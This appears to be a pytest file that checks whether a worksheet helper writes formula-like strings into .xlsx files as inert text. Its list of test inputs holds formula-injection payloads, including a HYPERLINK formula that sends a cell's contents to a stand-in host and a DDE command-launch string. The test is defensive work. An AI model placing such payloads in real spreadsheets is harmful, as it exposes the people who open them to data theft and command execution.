"""Text that looks like a formula is written as text, exactly as it was."""

from __future__ import annotations

from pathlib import Path

from openpyxl import Workbook, load_workbook

from tasks.worksheets import keep_text

HOSTILE = ['=HYPERLINK("http://example.invalid/?"&A1,"点击")', "=1+1", "+1+1", "-2+3", "@SUM(A1:A2)",
           "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]


def test_every_formula_looking_text_reads_back_as_the_same_text(tmp_path: Path) -> None:
    book = Workbook()
    for row, text in enumerate(HOSTILE, start=1):
        book.active.cell(row, 1, text)
    book.active.cell(1, 2, 42)
    keep_text(book).save(tmp_path / "t.xlsx")
    sheet = load_workbook(tmp_path / "t.xlsx").active
    assert [(sheet.cell(r, 1).data_type, sheet.cell(r, 1).value) for r in range(1, len(HOSTILE) + 1)] == \
        [("s", text) for text in HOSTILE]
    assert sheet.cell(1, 2).value == 42  # numbers stay numbers
